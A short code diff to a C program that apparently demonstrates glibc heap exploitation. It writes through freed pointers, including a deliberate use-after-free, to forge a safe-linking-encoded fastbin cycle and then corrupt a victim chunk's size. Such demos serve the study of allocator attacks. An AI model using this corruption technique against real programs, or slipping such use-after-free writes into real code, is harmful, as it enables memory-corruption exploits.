@@ -59,13 +59,14 @@ int main(int argc, char **argv) {
     void *g3 = malloc(0x200 - 8);
     if (!a || !b || !victim || !g1 || !g2 || !g3) die("malloc");
     memset(victim, 0x22, 0x100 - 8);
+    uintptr_t a_chunk = (uintptr_t)a - 16, b_chunk = (uintptr_t)b - 16;
+    uintptr_t *a_fd = (uintptr_t *)a;
+    __asm__("" : "+r"(a_fd)); /* launder: writing through it after free() is the point */
     for (int k = 0; k < 7; k++) free(fill[k]);
     free(a); /* fastbin: A */
     free(b); /* fastbin: B -> A */
 
     /* ---- corrupt; no allocator calls from here on ---- */
-    uintptr_t a_chunk = (uintptr_t)a - 16, b_chunk = (uintptr_t)b - 16;
-    uintptr_t *a_fd = (uintptr_t *)a;
     *a_fd = ((uintptr_t)a_fd >> 12) ^ b_chunk; /* A -> B: closes the cycle B -> A -> B */
     uintptr_t victim_chunk = (uintptr_t)victim - 16;
     size_t old_size = ((size_t *)victim)[-1];
